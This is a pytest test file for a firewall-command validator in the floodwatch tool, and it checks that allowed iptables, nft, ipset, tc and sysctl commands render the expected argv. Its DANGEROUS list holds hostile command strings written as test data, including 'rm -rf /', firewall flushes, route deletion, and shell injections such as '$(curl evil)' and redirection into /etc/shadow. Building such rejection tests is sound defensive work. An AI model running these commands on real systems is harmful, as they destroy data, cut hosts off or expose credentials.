"""Pure validation: a corpus of dangerous commands is rejected, allowed ones render the right argv."""

from __future__ import annotations

import dataclasses

import pytest

from floodwatch.errors import CommandRejected
from floodwatch.executor.argv import SHELL_META
from floodwatch.executor.plan import ADDS, READS, REMOVES
from floodwatch.executor.validate import validate_command
from floodwatch.settings.executor import ExecutorSettings
from tests.executor.exec_helpers import FACTS

S = dataclasses.replace(ExecutorSettings(), tc_interfaces=["eth0"])

DANGEROUS = [
    # flushes, policy changes, chains
    "iptables -F",
    "iptables -F INPUT",
    "iptables --flush",
    "iptables -t nat -F",
    "iptables -X",
    "iptables -X FLOODWATCH",
    "iptables -Z",
    "iptables -P INPUT DROP",
    "ip6tables -P INPUT DROP",
    "iptables --policy FORWARD DROP",
    "iptables -N EVIL",
    "iptables -E INPUT OTHER",
    "iptables -D INPUT 1",
    "iptables -R INPUT 1 -j DROP",
    "iptables -L",
    # other tables and chains
    "iptables -t nat -I PREROUTING -s 1.2.3.4 -j DROP",
    "iptables -t security -I INPUT -s 1.2.3.4 -j DROP",
    "iptables -t raw -I PREROUTING -s 1.2.3.4 -j DROP",
    "iptables -I OUTPUT -d 1.2.3.4 -j DROP",
    "iptables -I FORWARD -s 1.2.3.4 -j DROP",
    # rules that would cut the host off or open it
    "iptables -I INPUT -j DROP",
    "iptables -A INPUT -p tcp -j DROP",
    "iptables -I INPUT -s 0.0.0.0/0 -j DROP",
    "iptables -I INPUT -s 10.0.0.0/8 -j DROP",
    "iptables -I INPUT -s 127.0.0.1 -j DROP",
    "ip6tables -I INPUT -s ::1 -j DROP",
    "ip6tables -I INPUT -s ::/0 -j DROP",
    "iptables -I INPUT -p tcp --dport 22 -j DROP",
    "iptables -I INPUT -p tcp --dport 1:65535 -j DROP",
    "iptables -I INPUT -p tcp --dport 3306 -j ACCEPT",
    "iptables -I INPUT -d 198.18.0.1 -j DROP",
    "iptables -I INPUT --dport 80 -j DROP",
    # other targets and modules
    "iptables -I INPUT -s 1.2.3.4 -j LOG",
    "iptables -I INPUT -s 1.2.3.4 -j MASQUERADE",
    "iptables -I INPUT -s 1.2.3.4 -j FLOODWATCH",
    "iptables -I INPUT -s 1.2.3.4 -m owner --uid-owner 0 -j DROP",
    "iptables -I INPUT -s 1.2.3.4 -m comment --comment x -j DROP",
    "iptables -I INPUT -m set --match-set other_set src -j DROP",
    # options smuggled into values
    "iptables -I INPUT -s -F -j DROP",
    "iptables -I -F INPUT -s 1.2.3.4 -j DROP",
    "iptables -I INPUT -s 1.2.3.4 -j DROP --flush",
    "iptables -I INPUT -s 1.2.3.4 -s 5.6.7.8 -j DROP",
    "iptables -I INPUT -s 1.2.3.4 -j DROP -j ACCEPT",
    "iptables -I INPUT -s 1.2.3.4/33 -j DROP",
    "iptables -I INPUT -s 1.2.3.4/24 -j DROP",
    "iptables -I INPUT -s 2001:db8::1 -j DROP",
    "ip6tables -I INPUT -s 1.2.3.4 -j DROP",
    "iptables -I INPUT -p udp --sport 99999 -j DROP",
    "iptables -I INPUT -p udp --sport -1 -j DROP",
    "iptables -I INPUT -s 1.2.3.4 -m limit --limit lots -j DROP",
    "iptables -I INPUT -s 1.2.3.4 -i eth0/../x -j DROP",
    # shell metacharacters, substitution, chaining, redirection
    "iptables -I INPUT -s 1.2.3.4 -j DROP; rm -rf /",
    "iptables -I INPUT -s 1.2.3.4 -j DROP && reboot",
    "iptables -I INPUT -s 1.2.3.4 -j DROP || reboot",
    "iptables -I INPUT -s 1.2.3.4 -j DROP | sh",
    "iptables -I INPUT -s 1.2.3.4 -j DROP & reboot",
    "iptables -I INPUT -s $(curl evil) -j DROP",
    "iptables -I INPUT -s `id` -j DROP",
    "iptables -I INPUT -s ${IFS} -j DROP",
    "iptables -I INPUT -s 1.2.3.4 -j DROP > /etc/passwd",
    "iptables -I INPUT -s 1.2.3.4 -j DROP < /etc/shadow",
    "iptables -I INPUT -s 1.2.3.4 -j DROP\nreboot",
    "iptables -I INPUT -s 1.2.3.4 -j DROP\rreboot",
    "iptables -I INPUT -s '1.2.3.4' -j DROP",
    'iptables -I INPUT -s "1.2.3.4" -j DROP',
    "iptables -I INPUT -s 1.2.3.* -j DROP",
    "iptables -I INPUT -s 1.2.3.? -j DROP",
    "iptables -I INPUT -s 1.2.3.[1-9] -j DROP",
    "iptables -I INPUT -s ~ -j DROP",
    "iptables -I INPUT -s 1.2.3.4 -j DROP # comment",
    "iptables -I INPUT ! -s 1.2.3.4 -j DROP",
    "iptables -I INPUT -s 1.2.3.4 -j DROP \\; reboot",
    "FOO=bar iptables -I INPUT -s 1.2.3.4 -j DROP",
    "iptables -I INPUT -s {1.2.3.4,5.6.7.8} -j DROP",
    # file deletion, other programs, route changes
    "rm -rf /",
    "rm -rf --no-preserve-root /",
    "/sbin/iptables -F",
    "/usr/sbin/iptables -I INPUT -s 1.2.3.4 -j DROP",
    "sh -c iptables",
    "bash",
    "ip route flush all",
    "ip route del default",
    "route del default",
    "ip link set eth0 down",
    "iptables-restore /tmp/x",
    "nft flush ruleset",
    "nft -f /tmp/rules",
    "nft add table inet evil",
    "nft delete table inet floodwatch",
    "nft flush table inet floodwatch",
    "nft add rule ip filter input ip saddr 1.2.3.4 drop",
    "nft add rule inet other input ip saddr 1.2.3.4 drop",
    "nft add rule inet floodwatch input drop",
    "nft add rule inet floodwatch input tcp dport 22 drop",
    "nft add rule inet floodwatch input ip saddr 1.2.3.4 drop accept",
    "nft add rule inet floodwatch input ip saddr 1.2.3.4 jump other",
    "nft add rule inet floodwatch input meta mark set 1 drop",
    "nft add element inet floodwatch blk 127.0.0.1",
    "nft add element inet floodwatch blk 0.0.0.0/1",
    "nft list ruleset",
    "ipset flush floodwatch_block",
    "ipset destroy floodwatch_block",
    "ipset destroy",
    "ipset add other_set 1.2.3.4",
    "ipset add floodwatch_block 127.0.0.2",
    "ipset add floodwatch_block 1.0.0.0/8",
    "ipset restore",
    "ipset swap floodwatch_a floodwatch_b",
    "ipset add floodwatch_block 1.2.3.4 timeout 99999999",
    "ipset create floodwatch_x hash:ip,port",
    "tc qdisc del dev eth0 root",
    "tc qdisc add dev eth1 root handle fa00: tbf rate 1mbit burst 10k latency 50ms",
    "tc qdisc add dev eth0 root handle 1: tbf rate 1mbit burst 10k latency 50ms",
    "tc qdisc add dev eth0 root handle fa00: netem loss 100%",
    "tc filter add dev eth0 parent ffff: protocol ip u32 match u32 0 0 action drop",
    # sysctl
    "sysctl -w net.ipv4.ip_forward=1",
    "sysctl -w kernel.panic=1",
    "sysctl -w kernel.sysrq=1",
    "sysctl -w net.ipv4.tcp_syncookies=1 net.ipv4.ip_forward=1",
    "sysctl -w net.ipv4.tcp_syncookies=1 -w net.ipv4.ip_forward=1",
    "sysctl -p /etc/evil.conf",
    "sysctl --system",
    "sysctl -a",
    "sysctl -w net.ipv4.tcp_syncookies=9",
    "sysctl -w net.ipv4.tcp_syncookies=-1",
    "sysctl -w net.ipv4.tcp_syncookies=1=2",
    "sysctl -w net/ipv4/tcp_syncookies=1",
    # very long, non-ASCII, empty
    "iptables -I INPUT -s 1.2.3.4 -j DROP " + "-p tcp " * 100,
    "iptables -I INPUT -s " + "1" * 200 + " -j DROP",
    "iptables -I INPUT -s 1.2.3.4 -j DR\u041eP",  # a Cyrillic O
    "iptables -I INPUT -s \uff11.2.3.4 -j DROP",  # a full-width digit
    "iptables -I INPUT -s 1.2.3.4 -j DROP\x00",
    "iptables\t-F",
    "",
    "   ",
]


@pytest.mark.parametrize("command", DANGEROUS)
def test_dangerous_command_is_rejected_with_a_reason(command: str) -> None:
    with pytest.raises(CommandRejected) as info:
        validate_command(command, S, FACTS)
    assert str(info.value)


def test_corpus_is_big_and_covers_every_shell_metacharacter() -> None:
    assert len(DANGEROUS) >= 40
    for char in SHELL_META - {"="}:
        with pytest.raises(CommandRejected):
            validate_command(f"iptables -I INPUT -s 1.2.3.4{char} -j DROP", S, FACTS)
    for char in SHELL_META:
        with pytest.raises(CommandRejected):
            validate_command(f"ipset add floodwatch_block 1.2.3.4{char}", S, FACTS)


@pytest.mark.parametrize("command", [None, 5, 1.5, True, ["iptables", "-F"], {"cmd": "x"}, b"iptables -F"])
def test_a_command_that_is_not_a_string_is_rejected_as_data(command: object) -> None:
    with pytest.raises(CommandRejected, match="must be a string"):
        validate_command(command, S, FACTS)


ALLOWED = [
    ("iptables -I INPUT -s 1.2.3.4 -j DROP", ["iptables", "-t", "filter", "-I", "INPUT", "-s", "1.2.3.4", "-j", "DROP"],
     ["iptables", "-t", "filter", "-D", "INPUT", "-s", "1.2.3.4", "-j", "DROP"]),
    ("iptables --insert INPUT 2 --source 203.0.113.0/24 --jump REJECT",
     ["iptables", "-t", "filter", "-I", "INPUT", "2", "-s", "203.0.113.0/24", "-j", "REJECT"],
     ["iptables", "-t", "filter", "-D", "INPUT", "-s", "203.0.113.0/24", "-j", "REJECT"]),
    ("iptables -A FLOODWATCH -p udp --sport 123 -m limit --limit 100/s --limit-burst 200 -j DROP",
     ["iptables", "-t", "filter", "-A", "FLOODWATCH", "-p", "udp", "--sport", "123", "-m", "limit", "--limit",
      "100/second", "--limit-burst", "200", "-j", "DROP"], None),
    ("iptables -I INPUT -p tcp --syn -s 198.51.100.7 -j DROP",
     ["iptables", "-t", "filter", "-I", "INPUT", "-p", "tcp", "-s", "198.51.100.7", "--syn", "-j", "DROP"], None),
    ("iptables -I INPUT -p tcp -m tcp --dport 80:81 -j REJECT --reject-with tcp-reset",
     ["iptables", "-t", "filter", "-I", "INPUT", "-p", "tcp", "--dport", "80:81", "-j", "REJECT", "--reject-with",
      "tcp-reset"], None),
    ("iptables -I INPUT -m set --match-set floodwatch_block src -j DROP",
     ["iptables", "-t", "filter", "-I", "INPUT", "-m", "set", "--match-set", "floodwatch_block", "src", "-j", "DROP"],
     None),
    ("ip6tables -I INPUT -s 2001:db8:0:0::/64 -p ipv6-icmp -j DROP",
     ["ip6tables", "-t", "filter", "-I", "INPUT", "-p", "ipv6-icmp", "-s", "2001:db8::/64", "-j", "DROP"], None),
    ("nft add element inet floodwatch blk 1.2.3.4,198.51.100.0/24 timeout 10m",
     ["nft", "add", "element", "inet", "floodwatch", "blk", "{", "1.2.3.4", "timeout", "600s", ",",
      "198.51.100.0/24", "timeout", "600s", "}"],
     ["nft", "delete", "element", "inet", "floodwatch", "blk", "{", "1.2.3.4", ",", "198.51.100.0/24", "}"]),
    ("nft add rule inet floodwatch input ip saddr @blk counter drop",
     ["nft", "--echo", "--handle", "add", "rule", "inet", "floodwatch", "input", "ip", "saddr", "@blk", "counter",
      "drop"], None),
    ("nft insert rule inet floodwatch input udp sport 123 limit rate over 1000/second burst 50 packets drop",
     ["nft", "--echo", "--handle", "insert", "rule", "inet", "floodwatch", "input", "udp", "sport", "123", "limit",
      "rate", "over", "1000/second", "burst", "50", "packets", "drop"], None),
    ("nft delete rule inet floodwatch input handle 7",
     ["nft", "delete", "rule", "inet", "floodwatch", "input", "handle", "7"], None),
    ("ipset add floodwatch_block 1.2.3.4 timeout 600 -exist",
     ["ipset", "add", "floodwatch_block", "1.2.3.4", "timeout", "600", "-exist"],
     ["ipset", "del", "floodwatch_block", "1.2.3.4", "-exist"]),
    ("ipset create floodwatch_x hash:net family inet6 maxelem 1000",
     ["ipset", "create", "floodwatch_x", "hash:net", "family", "inet6", "maxelem", "1000"],
     ["ipset", "destroy", "floodwatch_x"]),
    ("tc qdisc add dev eth0 root handle fa00: tbf rate 100mbit burst 32kb latency 400ms",
     ["tc", "qdisc", "add", "dev", "eth0", "root", "handle", "fa00:", "tbf", "rate", "100mbit", "burst", "32kb",
      "latency", "400ms"], ["tc", "qdisc", "del", "dev", "eth0", "root", "handle", "fa00:"]),
    ("sysctl net.ipv4.tcp_syncookies=1", ["sysctl", "-w", "net.ipv4.tcp_syncookies=1"], None),
]


@pytest.mark.parametrize(("command", "argv", "undo"), ALLOWED)
def test_allowed_command_renders_the_expected_argv(command: str, argv: list[str], undo: list[str] | None) -> None:
    plan = validate_command(command, S, FACTS)
    assert plan.argv == argv
    if undo is not None:
        assert plan.undo == undo


def test_effects_and_the_inverse_of_an_insert_match_its_delete() -> None:
    add = validate_command("iptables -I INPUT 3 -p udp -s 1.2.3.4 --dport 53 -j DROP", S, FACTS)
    delete = validate_command("iptables -D INPUT -s 1.2.3.4 -p udp --dport 53 -j DROP", S, FACTS)
    assert add.effect == ADDS and delete.effect == REMOVES
    assert add.identity == delete.identity and add.undo == delete.argv
    assert validate_command("ipset test floodwatch_block 1.2.3.4", S, FACTS).effect == READS


def test_config_decides_chains_tables_and_own_names() -> None:
    custom = dataclasses.replace(S, iptables_chains=["FORWARD"], iptables_tables=["raw"], ipset_prefix="fwx",
                                 nft_table="mine", never_block=["192.0.2.0/24"], min_prefix_v4=24)
    validate_command("iptables -t raw -I FORWARD -s 198.51.100.0/24 -j DROP", custom, FACTS)
    for bad in ("iptables -I INPUT -s 198.51.100.1 -j DROP", "iptables -t raw -I FORWARD -s 198.51.0.0/16 -j DROP",
                "iptables -t raw -I FORWARD -s 192.0.2.5 -j DROP", "ipset add floodwatch_block 1.2.3.4",
                "nft add element inet floodwatch blk 1.2.3.4"):
        with pytest.raises(CommandRejected):
            validate_command(bad, custom, FACTS)
    validate_command("ipset add fwx_set 1.2.3.4", custom, FACTS)
    validate_command("nft add element inet mine blk 1.2.3.4", custom, FACTS)


def test_sysctl_allows_only_configured_keys() -> None:
    with pytest.raises(CommandRejected, match="not allowed"):
        validate_command("sysctl -w net.ipv4.tcp_syncookies=1", dataclasses.replace(S, sysctl_keys=[]), FACTS)


def test_accept_only_when_allowed_and_never_return_in_a_builtin_chain_nor_tc_replace() -> None:
    allowing = dataclasses.replace(S, allow_accept=True)
    assert validate_command("iptables -I INPUT -s 192.0.2.10 -j ACCEPT", allowing, FACTS).argv == [
        "iptables", "-t", "filter", "-I", "INPUT", "-s", "192.0.2.10", "-j", "ACCEPT"]
    with pytest.raises(CommandRejected, match="allow_accept"):
        validate_command("iptables -I INPUT -s 192.0.2.10 -j ACCEPT", S, FACTS)
    with pytest.raises(CommandRejected, match="RETURN"):
        validate_command("iptables -I INPUT -p tcp --dport 80 -j RETURN", allowing, FACTS)
    with pytest.raises(CommandRejected, match="agent's own"):
        validate_command("iptables -I FLOODWATCH -s 192.0.2.1 -j RETURN", allowing, FACTS)
    with pytest.raises(CommandRejected):
        validate_command("tc qdisc replace dev eth0 root handle fa00: tbf rate 1mbit burst 10k latency 50ms", S, FACTS)
